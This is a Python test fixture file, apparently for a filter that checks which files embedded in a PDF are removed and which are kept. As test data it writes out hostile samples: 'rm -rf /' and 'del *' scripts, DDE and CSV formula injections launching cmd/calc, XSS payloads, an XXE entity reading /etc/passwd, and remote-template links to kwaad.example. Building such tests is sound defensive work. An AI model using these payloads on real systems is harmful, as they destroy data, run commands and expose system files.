"""Files that a PDF carries: those that come out of it, and those that stay."""

import io
import zipfile

import pytest
from pikepdf import Dictionary, Name, Pdf

from tests.support.acting import Change, a_pdf, annotate, opens_with, script


def archive(**parts: bytes) -> bytes:
    """A ZIP; `__` in a name stands for a slash, `_` before the ending for a point."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as made:
        for name, content in parts.items():
            made.writestr(name.replace("__", "/").replace("_", "."), content)
    return target.getvalue()


MACROS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le")


def office(**parts: bytes) -> bytes:
    """As Word and Excel make it."""
    types = archive(xl__workbook_xml=b"<workbook/>", **parts)
    target = io.BytesIO(types)
    with zipfile.ZipFile(target, "a") as made:
        made.writestr("[Content_Types].xml", "<Types/>")
    return target.getvalue()


def rels(kind: str) -> bytes:
    """What a document refers to outside itself."""
    place = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        f"<Relationships><Relationship Id='r1' TargetMode='External' Type=\"{place}/{kind}\" "
        "Target='https://kwaad.example/x'/></Relationships>"
    ).encode()


LAUNCHERS = ("command", "slk", "iqy", "jnlp", "application", "pl", "rb", "rdp", "desktop", "ps1xml")
# Kind → names and contents that a PDF may not carry.
CARRIED: dict[str, list[tuple[str, bytes]]] = {
    "embedded_program": [
        ("factuur.xml", b"MZ\x90\x00" + bytes(60)),
        ("factuur.csv", b"\x7fELF" + bytes(60)),
        ("factuur.zip", archive(lees_xml=b"MZ" + bytes(60))),
        ("factuur.zip", archive(a_zip=archive(b_zip=b"", c_xml=b"MZ" + bytes(60)))),
        ("factuur.lnk.xml", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60)),
    ],
    "embedded_macro": [
        ("cijfers.xlsx", office(xl__vbaProject_bin=MACROS)),
        ("cijfers.csv", office(xl__media__plaatje_png=MACROS)),
        ("cijfers.xlsx", office(xl__macrosheets__blad1_xml=b"<x/>")),
        ("cijfers.xls", MACROS),
        ("brief.docx", office(word___rels__document_xml_rels=rels("oleObject"))),
        ("brief.docx", office(word___rels__settings_xml_rels=rels("attachedTemplate"))),
        ("cijfers.xlsx", office(xl__externalLinks__een_xml=b"<externalLink><ddeLink/></x>")),
        ("brief.docx", office(word__document_xml=b"<w:instrText> DDEAUTO c:\\cmd</w:instrText>")),
    ],
    "embedded_script": [
        ("factuur.txt", b"#!/bin/sh\nrm -rf /"),
        ("factuur.xml", b"<?xml version='1.0'?><html><script>x</script></html>"),
        ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
        ("factuur.csv", b"nr,bedrag\n1,=cmd|' /C calc'!A0"),
        ("factuur.js", b"var x = 1"),
        ("factuur.vbs . ", b"x = 1"),
        ("factuur.txt", "\ufeff<script>x</script>".encode("utf-16-le")),
        ("factuur.csv", b"@echo off\r\ndel *"),
        ("factuur.html", b"GIF89a=1;<script>alert(1)</script>"),
        ("factuur.html", b"Beste<svg/onload=alert(1)>"),
        ("factuur.html", b"Beste <img src='x'onerror=alert(1)>"),
        ("factuur.xml", b"<a><iframe srcdoc='&lt;script&gt;x'/></a>"),
        ("factuur.csv", b"nr;=1+cmd|'/c calc'!A0"),
        ("factuur.csv", b"ID;P\nO;E\nC;X1;Y1;K0;EEXEC(1)\n"),
        *((f"factuur.{each}", b"open https://kwaad.example") for each in LAUNCHERS),
    ],
    "embedded_unknown": [
        ("factuur.xml", b"\x00\x01\x02\x03"),
        ("factuur.7z", b"7z\xbc\xaf\x27\x1c\x00"),
        ("pagina.xml", b"<html><body>Inloggen</body></html>"),
        ("factuur.zip", b"PK\x03\x04" + b"kapot" * 9 + b"PK\x05\x06" + bytes(18)),
        ("factuur.xml", b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"),
        ("beschadigd.pdf", b"%PDF-1.7\n"),
        ("factuur.ahk", b"Run calc"),
        ("factuur.nog-niet-bedacht", b"Run calc"),
        ("pagina.html", b"Beste klant, log opnieuw in"),
        ("foto.html", b"GIF89a=1;"),
        ("brief.rtf", b"{\\rtf1{\\*\\template http://kwaad.example/x}}"),
        ("brief.rtf", b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}"),
    ],
    "embedded_active": [("brief.pdf", a_pdf(opens_with(script())))],
}
EACH_CARRIED = [
    pytest.param(kind, *each, id=f"{kind} {number}")
    for kind, files in CARRIED.items()
    for number, each in enumerate(files)
]

INVOICE = b"""<?xml version="1.0" encoding="UTF-8"?>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">
<ID>2026-001</ID></rsm:CrossIndustryInvoice>"""
KEPT: list[tuple[str, bytes]] = [
    ("factur-x.xml", INVOICE),
    ("ubl.xml", b"\xef\xbb\xbf<Invoice/>"),
    ("aangifte.xbrl", b"<?xml version='1.0'?><xbrli:xbrl xmlns:xbrli='x'/>"),
    ("verslag.xhtml", b"<html xmlns:ix='http://www.xbrl.org/2013/inlineXBRL'><body/></html>"),
    ("grootboek.csv", "nr;omschrijving;bedrag\r\n1;caf\xe9;-12,50\r\n".encode("latin-1")),
    ("grootboek.csv", b"nr;bedrag\r\n1;=SOM(A1|A2)\r\n"),
    ("toelichting.txt", b""),
    ("bijlage.pdf", a_pdf()),
    ("cijfers.xlsx", office(xl__printerSettings1_bin=b"\x00\x01")),
    ("foto.jpg", b"\xff\xd8\xff\xe0" + bytes(40)),
    ("stukken.zip", archive(factuur_xml=INVOICE)),
    ("brief.docx", office(word___rels__document_xml_rels=rels("hyperlink"))),
    ("leeg.txt", b"\n" * 600_000),
    ("factuur.xml", b"<a " + b"\t" * 400_000 + b"/>"),
    ("factuur.xml", b"<?a?>" * 34 + b"!"),
    ("factuur.xml", b"<!--a-->" * 34 + b"!"),
    ("grootboek.csv", b"=a|," * 20_000),
    ("foto", b"\x89PNG\r\n\x1a\n" + bytes(40)),
    ("brief.rtf", b"{\\rtf1 Beste Anna}"),
]


def carrying(name: str, content: bytes) -> Change:
    def change(made: Pdf) -> None:
        made.attachments[name] = content

    return change


def clipped(name: str, content: bytes) -> Change:
    """On the page, as a paper clip."""

    def change(made: Pdf) -> None:
        held = made.make_stream(content)
        file = Dictionary(Type=Name.Filespec, F=name, UF=name, EF=Dictionary(F=held))
        seen = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, FS=made.make_indirect(file))
        annotate(made, seen)

    return change


def nested(depth: int) -> bytes:
    """A PDF in a PDF in a PDF."""
    content = a_pdf()
    for _ in range(depth):
        content = a_pdf(carrying("bijlage.pdf", content))
    return content
